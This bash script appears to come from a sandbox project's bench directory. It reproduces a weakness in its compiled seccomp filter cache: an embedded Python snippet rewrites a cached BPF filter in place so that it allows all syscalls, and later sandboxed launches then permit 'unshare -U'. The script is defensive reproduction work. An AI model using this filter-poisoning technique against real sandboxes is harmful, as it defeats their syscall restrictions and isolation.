#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# Reproduces a weakness of the compiled-filter cache (supervisor/seccomp_cache.c)
# found while benchmarking it: for a non-root caller the sandbox's uid 65532 maps
# to the caller's own uid, so a task given a read-write bind that covers the cache
# directory can rewrite a cached filter in place (owner and mode stay the caller's
# 0600, which is what the trust check looks at), and later launches run under the
# planted filter.
#
#   bench/repro-cache-poison.sh [TASKJAIL]     (as root; runs the launches as 65534)
#
# Prints, for three launches as uid 65534: whether `unshare -U` is denied (the
# default policy denies it). Expected output with the weakness present:
#   1 normal launch:            unshare denied
#   2 task with a rw bind:      poisoned <file>
#   3 next normal launch:       unshare ALLOWED
# A fixed build prints "unshare denied" for launch 3 (or refuses launch 2).
set -eu
src=$(cd "$(dirname "$0")/.." && pwd)
tj=${1:-$src/build-bench/taskjail}
[ "$(id -u)" = 0 ] || { echo "run as root (the launches run as uid 65534)"; exit 2; }
[ -x "$tj" ] || { echo "no taskjail at $tj (run bench/run once, or pass a path)"; exit 2; }
dir=$(mktemp -d /var/tmp/tj-poison.XXXXXX)
trap 'rm -rf "$dir"' EXIT
mkdir -p "$dir/home" "$dir/bin"
cp "$tj" "$dir/bin/taskjail"
cp -r "$src/profiles" "$src/policies" "$dir/"
cat > "$dir/bin/poison.py" <<'EOF'
import glob, struct
for p in glob.glob('/c/*.bpf'):
    b = bytearray(open(p, 'rb').read())
    off = len(b"taskjail-bpf-cache 1\n")
    key_len, pol_len, _flags, _arch, _nl, _len, _shadow = struct.unpack_from('<7I', b, off)
    prog = off + 7 * 4 + key_len + pol_len
    struct.pack_into('<HBBI', b, prog, 0x06, 0, 0, 0x7fff0000)  # BPF_RET|BPF_K, SECCOMP_RET_ALLOW
    with open(p, 'r+b') as f:  # in place: owner and mode unchanged
        f.write(b)
    print('poisoned', p)
EOF
chmod -R a+rX "$dir"
chown 65534:65534 "$dir/home"
chmod 700 "$dir/home"
run() {
	setpriv --reuid=65534 --regid=65534 --clear-groups env -i PATH=/usr/bin:/bin \
		HOME="$dir/home" "$dir/bin/taskjail" run "$@"
}
probe='unshare -U true 2>/dev/null && echo "unshare ALLOWED" || echo "unshare denied"'
echo -n "1 normal launch:            "; run -- /bin/sh -c "$probe"
echo -n "2 task with a rw bind:      "
run --bind-rw "$dir/home/.cache/taskjail:/c" --bind-ro "$dir/bin" -- /usr/bin/python3 "$dir/bin/poison.py" ||
	echo "(launch refused: exit $?)"
echo -n "3 next normal launch:       "; run -- /bin/sh -c "$probe"
